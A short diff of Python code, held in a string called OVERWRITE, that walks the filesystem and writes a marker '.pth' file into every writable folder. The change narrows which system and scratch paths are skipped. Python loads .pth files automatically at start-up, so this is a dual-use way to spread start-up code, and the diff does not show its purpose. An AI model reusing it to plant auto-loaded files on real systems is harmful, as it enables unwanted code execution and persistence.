@@ -93,7 +93,8 @@ OVERWRITE = """
     found = []
 
     def inside(path):
-        return path.startswith(START) and not path.startswith(("/scratch", "/tmp", "/dev/shm", "/proc"))
+        own = START == "/" and path.startswith(("/scratch", "/tmp", "/dev/shm", "/proc"))
+        return path.startswith(START) and not own
 
     def plant(folder):
         path = os.path.join(folder, MARK + ".pth")
@@ -124,7 +125,7 @@ OVERWRITE = """
         plant(folder)
     for top in (START, sys.prefix if inside(sys.prefix) else START):
         for folder, _, names in os.walk(top):
-            if folder.startswith(("/proc", "/sys", "/scratch", "/tmp", "/dev")):
+            if START == "/" and folder.startswith(("/proc", "/sys", "/scratch", "/tmp", "/dev")):
                 continue
             if os.access(folder, os.W_OK):
                 plant(folder)
